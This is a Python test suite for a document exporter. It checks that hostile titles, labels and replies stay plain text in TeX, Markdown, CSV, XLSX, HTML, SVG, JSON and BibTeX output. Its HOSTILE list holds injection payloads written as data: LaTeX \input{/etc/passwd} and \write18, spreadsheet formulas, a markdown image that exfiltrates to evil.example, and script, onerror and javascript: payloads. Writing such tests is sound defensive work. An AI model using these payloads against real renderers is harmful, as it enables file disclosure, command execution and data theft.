"""Documents → files: hostile text in every field, in every format, stays text; a bibliography is exactly what is cited."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from assistant.document import (
    SECOND_READER,
    SUMMARY_FIELDS,
    Assignment,
    Cell,
    Cite,
    Column,
    Coverage,
    CoverageNote,
    Document,
    Group,
    Node,
    Problem,
    Report,
    Result,
    Row,
    Section,
    Source,
    Statement,
    Summary,
    Unassigned,
)
from assistant.errors import UsageError
from assistant.export import WRITERS, bibtex, checks, escape, formats_of, markdown, names, written
from assistant.export.tree import branches, walked
from assistant.visible import HIDDEN
from store.formats import read_bytes

HOSTILE = (
    r"\input{/etc/passwd} \write18{x} ^^5cinput{y} 50% & $5 #1 _a {b",
    '=HYPERLINK("http://e/?"&A2)',
    "+1", "-1", "@SUM(1)", "＝1", "#N/A", "#REF!", "_x0041_", "1e999", "TRUE",
    "![x](https://evil.example/?d=1)", "[c](javascript:alert(1))", "<script>alert(1)</script>", "]]> --> <!-- &amp; &#x3c;",
    '"><img src=x onerror=alert(1)>', "{{ 7*7 }}{% raw %}",
    "| a | b |\n# heading\n- item", "`code` **bold** ]] [forest, {",
    "深度强化学习：综述", r"Learning on $SE(3)$ and $\tau$-bench", "Rockets 🚀 and 👩🏽‍🔬", "תורת המשחקים والتعلم \u202egnp.exe", "bad \x00\x08\x1b\ufffe bytes",
)  # fmt: skip
LONG = "word " * 8_000


def source(key: str, title: str, **more: object) -> Source:
    fields: dict[str, object] = {
        "key": key, "title": title, "authors": ("Ada Lovelace",), "author_count": 1, "organization": "", "year": "2026", "venue": "",
        "entry_type": "", "identifiers": {"arxiv": "2603.00001"}, "is_note": False,
    }  # fmt: skip
    return Source(**{**fields, **more})  # type: ignore[arg-type]


def documents(text: str) -> list[Document]:
    """One document a task, with the text in every field that a paper or a model fills."""
    cite = Cite("a2026x", "abstract", (1,), text, 1)
    sources = {"a2026x": source("a2026x", text, authors=(text,), organization=text, venue=text), "b": source("b", "B")}
    statement = Statement(text, (cite,), (Problem(text, "R4", "x"),))
    coverage = (Coverage("a2026x", ("One",)), Coverage("b", (), text))
    return [
        Document("ask", text, sections=(Section("", (statement,)),), outcome="answered", sources=sources),
        Document(
            "draft", text, sections=(Section(text, (statement,)),), coverage=(Coverage("a2026x", (text,), times=(2,), title=text), *coverage[1:]),
            coverage_notes=(CoverageNote("depends on a group", text, text, ("a2026x",)),), sources=sources, report=Report(1, 1),
        ),
        Document(
            "table", text, columns=(Column("c", text, text),), coverage=coverage, sources=sources,
            rows=(Row("a2026x", {"c": Cell(text, text, "stated", cites=(cite,))}), Row("b", {"c": Cell(None, "", "not stated")})),
        ),
        Document(
            "taxonomy", text, nodes=(Node("n", text, text, facet=text),), assignments=(Assignment("a2026x", "n", cites=(cite,)),),
            unassigned=(Unassigned("b", text),), coverage=coverage, sources=sources,
        ),
        Document(
            "summarize", text, coverage=coverage, sources=sources, summaries=(Summary(
                "a2026x", dict.fromkeys(SUMMARY_FIELDS, Cell(text, text, "stated", cites=(cite,), marks=("R4: not there",))),
                (Result(text, text, text, text, (cite,)), Result("", text)), (Problem(text, "R7", text),),
            ),),
        ),
    ]  # fmt: skip


def said(text: str) -> str:
    """A hostile text as a reader may see it: without what no file can hold, on one line."""
    return " ".join(escape.CONTROL.sub("", text).split())


def held_tex(document: Document, text: str) -> None:
    tex = str(WRITERS["tex"](document))
    assert not re.search(r"\\(?:input|write)(?![a-z])|\^\^", tex)
    assert tex.count("{") - tex.count(r"\{") == tex.count("}") - tex.count(r"\}")
    assert all(line.startswith("%") for line in tex[tex.index("% Checks: ") :].splitlines())
    assert not re.search(r"[^\x00-\u017f]", re.sub(r"\\otherscript\{[^}]*\}|^%.*$|\\def.*", "", tex, flags=re.MULTILINE))


def held_md(document: Document, text: str) -> None:
    assert not re.search(r"(?<!\\)!?(?<!\\)\[[^\]@]*(?<!\\)\]\(|(?<!\\)<script", str(WRITERS["md"](document)))


def held_csv(document: Document, text: str) -> None:
    for written_text in (str(WRITERS["csv"](document)), checks.write(document)):
        rows = list(csv.reader(io.StringIO(written_text.removeprefix("\ufeff"))))
        assert len({len(row) for row in rows}) == 1
        assert not any(cell.startswith(tuple("=+-@＝")) for row in rows for cell in row)
        assert any(escape.CONTROL.sub("", text) in cell for row in rows for cell in row) or document.task == "taxonomy"


def held_xlsx(document: Document, text: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(bytes(WRITERS["xlsx"](document))))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not any(cell.hyperlink for cell in cells)
    assert {str(cell.value).replace("_x005F_", "_") for cell in cells} & {said(text), escape.plain(text), escape.CONTROL.sub("", text)}
    assert any(escape.sheet(text) in cell.comment.text for cell in cells if cell.comment)


class Page(HTMLParser):
    """What a browser would make of a page: its tags, its links, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag != "meta":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


def held_html(document: Document, text: str) -> None:
    page = Page()
    page.feed(str(WRITERS["html"](document)))
    assert page.open == []
    assert not {tag for tag, _ in page.tags} & {"script", "img", "iframe", "object", "link", "form", "base", "svg"}
    for _, values in page.tags:
        assert not any(name.startswith("on") or name in {"src", "style"} for name in values)
        href = values.get("href") or "#"
        assert href.startswith(("#", "https://", "http://"))
        assert href.startswith("#") or values["rel"] == "noopener noreferrer"
    assert said(text) in " ".join(page.text.split())


def held_svg(document: Document, text: str) -> None:
    if document.task != "taxonomy":
        return
    top = ET.fromstring(str(WRITERS["svg"](document)))
    assert {element.tag.partition("}")[2] for element in top.iter()} == {"svg", "title", "desc", "style", "rect", "path", "g", "text", "tspan"}
    shown = "".join("".join(element.itertext()) for element in top.iter("{http://www.w3.org/2000/svg}text"))
    assert "".join(escape.plain(HIDDEN.sub("", text)).split()) in "".join(shown.split())


def held_json(document: Document, text: str) -> None:
    assert json.dumps(text)[1:-1] in json.dumps(json.loads(str(WRITERS["json"](document))))


def held_bib(document: Document, text: str) -> None:
    reading = read_bytes(str(WRITERS["bib"](document)).encode() or b" ", "out.bib")
    assert not reading.refused
    (record,) = (one for one in reading.records if one.key == "a2026x")
    assert escape.plain(record.title) == escape.plain(text)


HELD = {"tex": held_tex, "md": held_md, "csv": held_csv, "xlsx": held_xlsx, "html": held_html, "svg": held_svg, "json": held_json, "bib": held_bib}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("name", WRITERS)
def test_hostile_text_stays_text_in_every_format(name: str, text: str) -> None:
    """No command, formula, image, link, script or structure comes out of a title, a label or a reply; read back it is the text."""
    for document in documents(text):
        HELD[name](document, text)


@pytest.mark.parametrize("name", WRITERS)
def test_forty_thousand_characters_are_written_and_what_is_cut_says_so(name: str) -> None:
    """Only a spreadsheet's cell has an end, and there the reader is told how long the text is and where it stands."""
    for document in documents(LONG):
        if name in formats_of(document.task):
            made = WRITERS[name](document)
            assert isinstance(made, bytes) or made.count("word") >= len(LONG) // 5
        if name == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(bytes(made)))
            cells = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row]
            assert max(map(len, cells)) == 32_767
            assert any(cell.endswith("(cut: 40,000 characters; the whole stands in the JSON export)") or "(cut: 39,999" in cell for cell in cells)
            assert any("cells were longer than the 32,767 characters" in cell for cell in cells)


@pytest.mark.parametrize("name", ["md", "csv", "tex"])
def test_a_line_of_a_reply_makes_no_structure(name: str) -> None:
    """A cell with line breaks and bars is one cell."""
    table = documents(HOSTILE[9])[2]
    if name == "md":
        assert sum(line.startswith("| ") for line in WRITERS["md"](table).splitlines()) == 3
    elif name == "csv":
        assert len(list(csv.reader(io.StringIO(WRITERS["csv"](table))))) == 3
    else:
        assert WRITERS["tex"](table).count(r" \\" + "\n") == 3


def test_the_bibliography_is_exactly_what_is_cited() -> None:
    """A draft cites `a2026x` and not `b`: one entry, whose fields are the library's and read back the same."""
    (draft,) = [document for document in documents("Deep {RL} for A-1 Robots") if document.task == "draft"]
    (record,) = read_bytes(bibtex.write(draft).encode(), "out.bib").records
    assert record.key == "a2026x"
    assert dict(record.identifiers) == {"arxiv": "2603.00001"}
    assert record.date == "2026"
    tex = WRITERS["tex"](draft)
    assert set(re.findall(r"\\citep\{([^}]*)\}", tex)) == {"a2026x"}


def test_what_the_library_does_not_know_is_not_in_the_entry() -> None:
    """No author, no year, no venue: no field."""
    entry = bibtex.entry(source("x", "A Title", authors=(), author_count=5, year="", identifiers={}))
    assert entry == "@misc{x,\n  title = {A Title},\n}\n"


def test_a_quote_stays_as_the_paper_has_it() -> None:
    """Titles and cells show LaTeX in Unicode; a quote in JSON is the stored text to the character."""
    assert escape.plain(r"Learning on $SE(3)$ with \textbf{WIST}") == "Learning on SE(3) with WIST"
    document = documents(r"We use $SE(3)$ and \emph{more}.")[0]
    assert json.loads(WRITERS["json"](document))["statements"][0]["cites"][0]["quote"] == r"We use $SE(3)$ and \emph{more}."


def test_signs_are_commands_that_latex_knows() -> None:
    """Greek letters and signs print with plain pdflatex; accents and Chinese are left to the document."""
    assert escape.latex("ε-optimal, 4.3×, café, 学") == r"\ensuremath{\varepsilon}-optimal, 4.3×, café, 学"
    assert escape.latex("α ≤ β") == r"\ensuremath{\alpha} \ensuremath{\leq} \ensuremath{\beta}"


def test_notes_say_that_they_are_notes() -> None:
    """Where a quote is from a note, the reader is told."""
    document = documents("Fine.")[0]
    noted = Document("ask", "q", sections=document.sections, outcome="answered", sources={"a2026x": source("a2026x", "T", is_note=True)})
    assert "our notes, not from the authors' abstracts" in WRITERS["md"](noted)
    assert "our notes, not from the authors' abstracts" in WRITERS["tex"](noted)
    assert "our notes" not in WRITERS["md"](document)


def test_a_percent_sign_beside_mathematics_starts_no_comment() -> None:
    """What stands behind it is kept; an escaped one is shown plainly."""
    assert escape.plain(r"22.4% (9.4% before) on $\tau$-bench, 5\% less") == "22.4% (9.4% before) on τ-bench, 5% less"


def test_a_summary_without_results_is_no_blank() -> None:
    """Every writer says that nothing is stated."""
    silent = Summary("b", dict.fromkeys(SUMMARY_FIELDS, Cell(None, "", "not stated")))
    document = Document("summarize", "S", sources={"b": source("b", "B")}, summaries=(silent,))
    assert "- **Results**: not stated" in WRITERS["md"](document)
    assert WRITERS["tex"](document).count("& --") == 6
    assert next(csv.DictReader(io.StringIO(WRITERS["csv"](document).removeprefix("\ufeff"))))["Results"] == "not stated"


def test_a_bibliography_entry_is_read_back_the_same() -> None:
    """Type, names, date, venue, details, identifiers and harmless mathematics are what the library knows."""
    details = {"volume": "12", "number": "3", "pages": "101-120", "publisher": "Springer & Sons", "editor": "Grace Hopper; Alan Turing", "issn": "1234-5678"}
    paper = source(
        "lovelace2026se3", r"Learning on $SE(3)$ for the A1 Robot: 50% less", authors=("Ada Lovelace", "Ludwig van Beethoven", "The ATLAS Collaboration", "王小明"),
        venue="Journal of Robots", entry_type="article", identifiers={"arxiv": "2603.00001", "doi": "10.1000/a_b(1)"}, details=details, date="2026-03-25",
    )  # fmt: skip
    (record,) = read_bytes(bibtex.entry(paper).encode(), "out.bib").records
    assert (record.key, record.entry_type, record.title, record.authors) == (paper.key, "article", paper.title, paper.authors)
    assert (record.date, record.venue, dict(record.details), dict(record.identifiers)) == (paper.date, paper.venue, details, paper.identifiers)
    assert "Lovelace and Ludwig van Beethoven and {The ATLAS Collaboration}" in bibtex.entry(paper)


def test_mathematics_that_could_do_harm_is_not_kept() -> None:
    """A formula with a command that is none of mathematics is printed as text, as is one whose braces do not close."""
    for formula in (r"$\input{x}$", r"$a}{$", r"$\def\x{}$", "$\x00$", "$ä$"):
        assert "$" not in escape.bibtex(f"A {formula} b").replace(r"\$", "")
    assert escape.bibtex(r"On $\tau^2$-bench") == r"On $\tau^2$-bench"


def test_only_a_tree_is_drawn(tmp_path: Path) -> None:
    """Asked for a drawing of a table, the program says what can be drawn and writes nothing."""
    ask, _, table, tree, _ = documents("A")
    with pytest.raises(UsageError, match="--to svg: only taxonomy"):
        written(table, tmp_path, ["csv", "svg"])
    assert not list(tmp_path.iterdir())
    assert [path.name for path in written(tree, tmp_path, ["svg", "csv", "tex"])] == ["a.svg", "a.csv", "a.checks.csv", "a.tex", "a.table.tex"]
    assert "svg" not in formats_of(ask.task)


@pytest.mark.parametrize("name", ["md", "html", "tex", "csv", "xlsx", "json"])
def test_what_could_not_be_checked_stands_in_every_output(name: str, tmp_path: Path) -> None:
    """Blocked, marked and unchecked are told with their rules, and how far a second reader can be trusted beside its count."""
    statement = Statement("It halves the cost.", (Cite("a2026x", "abstract", (1,), "Costs fall.", 1),), (Problem("It halves the cost.", "R4", "no half there", "Costs fall."),), ("R6",), "partly")
    report = Report(1, 0, 1, 1, (Problem("It cures all.", "R1", "no such paper"),), statement.problems, (Problem(statement.text, "R6", "other language"),), ("b: no reply",))
    document = Document("draft", "D", (Section("One", (statement,)),), sources={"a2026x": source("a2026x", "T")}, report=report)
    written(document, tmp_path, [name])
    made = b"".join(path.read_bytes() for path in tmp_path.iterdir())
    text = made.decode() if name != "xlsx" else " ".join(str(cell.value) for sheet in openpyxl.load_workbook(io.BytesIO(made)) for row in sheet.iter_rows() for cell in row)
    for words in ("no half there", "no such paper", "other language", "b: no reply", "R1", "R4", "R6", ".59", ".97"):
        assert words in text, words
    assert SECOND_READER not in markdown.summary(Report(1, 1))


def test_a_spreadsheet_has_numbers_comments_and_sheets(tmp_path: Path) -> None:
    """A number is a number under a header with its unit; its sentence is a comment and a row of a sheet; the same document is the same bytes."""
    cite = Cite("a2026x", "abstract", (2, 3), "It takes 1.5 hours.", 1)
    table = Document(
        "table", "T", columns=(Column("h", "Time", "How long?", "number", "hours"), Column("o", "Open", "Is it open?", "yes/no")),
        rows=(Row("a2026x", {"h": Cell(1.5, "1.5", "stated", cites=(cite,), marks=("R4: odd",)), "o": Cell(True, "true", "stated")}), Row("b", {"h": Cell(float("inf"), "inf", "stated")})),
        sources={"a2026x": source("a2026x", "A")}, coverage=(Coverage("a2026x", ("Time",)), Coverage("b", (), "nothing")),
    )  # fmt: skip
    made = bytes(WRITERS["xlsx"](table))
    assert made == WRITERS["xlsx"](table)
    core = zipfile.ZipFile(io.BytesIO(made)).read("docProps/core.xml")
    assert core.count(b"2000-01-01T00:00:00Z</dcterms:") == 2
    book = openpyxl.load_workbook(io.BytesIO(made))
    assert book.sheetnames == ["Table", "Evidence", "Checks", "Coverage"]
    rows = [[cell.value for cell in row] for row in book["Table"].iter_rows()]
    assert [row[:5] for row in rows] == [["key", "title", "year", "Time (hours)", "Open"], ["a2026x", "A", 2026, 1.5, "yes"], ["b", None, None, "inf", "?"]]
    assert (rows[0][5], book["Table"].column_dimensions["F"].hidden) == ("as exported", True)
    assert book["Table"]["D2"].comment.text == "a2026x 2,3: “It takes 1.5 hours.”\n! R4: odd"
    assert (book["Table"].freeze_panes, book["Table"].auto_filter.ref) == ("B2", "A1:F3")
    assert [[cell.value for cell in row] for row in book["Evidence"].iter_rows(min_row=2)] == [["a2026x", "Time (hours)", cite.quote, "a2026x abstract", "2, 3", "R4: odd"]]
    assert [cell.value for cell in book["Coverage"][3]] == ["b", None, "nothing"]


def test_no_two_boxes_of_a_drawing_overlap_and_no_line_leaves_its_box() -> None:
    """With three levels, long labels, Chinese letters and many papers."""
    nodes = [Node("n", "A label that takes several lines of its box, and more", "d"), Node("e", "", "d")]
    nodes += [Node(f"n{at}", f"{'深度强化学习综述' * at} label {at}", "d", "n") for at in range(5)]
    nodes += [Node(f"n{at}x", "x" * 70, "d", f"n{at}") for at in range(3)]
    placed = tuple(Assignment(f"key{at}", f"n{at % 3}x" if at % 2 else f"n{at % 5}") for at in range(40))
    top = ET.fromstring(str(WRITERS["svg"](Document("taxonomy", "T", nodes=tuple(nodes), assignments=placed))))
    groups = list(top.iter("{http://www.w3.org/2000/svg}g"))
    boxes = [[float(group[0].get(name, "")) for name in ("x", "y", "width", "height")] for group in groups]
    assert len(boxes) == 1 + len(nodes) + 8
    for at, (x, y, width, height) in enumerate(boxes):
        for x2, y2, width2, height2 in boxes[:at]:
            assert x + width <= x2 or x2 + width2 <= x or y + height <= y2 or y2 + height2 <= y
        for line in groups[at].iter("{http://www.w3.org/2000/svg}tspan"):
            assert y < float(line.get("y", "")) < y + height
            assert sum(2 if ord(char) > 0x2E80 else 1 for char in line.text or "") * 7 <= width


def test_several_facets_stand_side_by_side() -> None:
    """Each facet is a level of its own above its nodes; a paper may stand in both, and is counted once in each."""
    nodes = (Node("a", "Reward", "d", facet="signal"), Node("b", "Maths", "d", facet="domain"), Node("c", "Proof", "d", "b", "domain"))
    tree = Document("taxonomy", "T", nodes=nodes, assignments=(Assignment("p", "a"), Assignment("p", "c")))
    assert [(labels, branch.keys) for labels, branch in walked(branches(tree))] == [
        (("signal",), ("p",)), (("signal", "Reward"), ("p",)), (("domain",), ("p",)), (("domain", "Maths"), ("p",)), (("domain", "Maths", "Proof"), ("p",)),
    ]  # fmt: skip
    rows = list(csv.reader(io.StringIO(str(WRITERS["csv"](tree)))))
    assert rows[0][2:5] == ["facet", "first level", "second level"]
    assert [row[2:5] for row in rows[1:]] == [["signal", "Reward", ""], ["domain", "Maths", "Proof"]]


ARRANGED = Document(
    "table", "T", columns=(Column("m", "Method", "What?"), Column("h", "Time", "How long?", "number", "hours")),
    rows=(Row("a", {"m": Cell("one", "one", "stated"), "h": Cell(5.0, "5", "stated")}), Row("b", {"m": Cell("two", "two", "stated")})),
    groups=(Group("code & search", ("a", "b")), Group("(not stated)", ("b",))), sources={"a": source("a", "A"), "b": source("b", "B")},
)  # fmt: skip


@pytest.mark.parametrize("transposed", [False, True])
def test_groups_and_turned_tables_stand_so_in_every_format(transposed: bool) -> None:
    """A paper stands in each of its groups: CSV and XLSX have the group first, LaTeX and HTML a heading, JSON names both."""
    document = replace(ARRANGED, transposed=transposed)
    rows = list(csv.reader(io.StringIO(str(WRITERS["csv"](document)).removeprefix("\ufeff"))))
    rows = [list(line) for line in zip(*rows, strict=True)] if transposed else rows
    assert [row[:2] for row in rows] == [["group", "key"], ["code & search", "a"], ["code & search", "b"], ["(not stated)", "b"]]
    sheet = openpyxl.load_workbook(io.BytesIO(bytes(WRITERS["xlsx"](document))))["Table"]
    cells = [[cell.value for cell in row] for row in (sheet.iter_cols() if transposed else sheet.iter_rows())]
    assert [[row[0], row[1], row[5]] for row in cells] == [["group", "key", "Time (hours)"], ["code & search", "a", 5], ["code & search", "b", "?"], ["(not stated)", "b", "?"]]
    assert sheet.freeze_panes == ("B3" if transposed else "C2")
    tex = str(WRITERS["tex"](document))
    if transposed:
        assert [tex.count(words) for words in (r"\caption{T, code \& search", r"\caption{T, (not stated)", "Method & one & two")] == [1, 1, 1]
    else:
        assert tex.count(r"\multicolumn{3}{l}{\textit{code \& search}} \\*") == 1
    page = Page()
    page.feed(str(WRITERS["html"](document)))
    assert [values.get("scope") for tag, values in page.tags if tag == "th"].count("colgroup" if transposed else "rowgroup") == 2
    shape = json.loads(str(WRITERS["json"](document)))
    assert (len(shape["groups"]), shape.get("transposed", False), len(shape["rows"])) == (2, transposed, 2)


@pytest.mark.parametrize(("name", "said"), [("md", "For example @p."), ("html", "For example"), ("json", '"example": "p"')])
def test_a_node_shows_its_example(name: str, said: str) -> None:
    """The paper that shows what a node is; a node without one says nothing."""
    tree = Document("taxonomy", "T", nodes=(Node("a", "Reward", "d", example="p"), Node("b", "Maths", "d")), assignments=(Assignment("p", "a"),))
    assert str(WRITERS[name](tree)).count(said) == 1


def test_links_go_to_the_web_and_nowhere_else() -> None:
    """An address that a browser would run, or that would leave its attribute, is no link."""
    for url in ("javascript:alert(1)", 'https://e.example/"onclick=x', "data:text/html,x", "//e.example", "https://e.example/ x"):
        assert not names.link(source("x", "X", identifiers={"url": url}))
    assert names.link(source("x", "X", identifiers={"doi": "10.1/<a>"})) == "https://doi.org/10.1/%3Ca%3E"
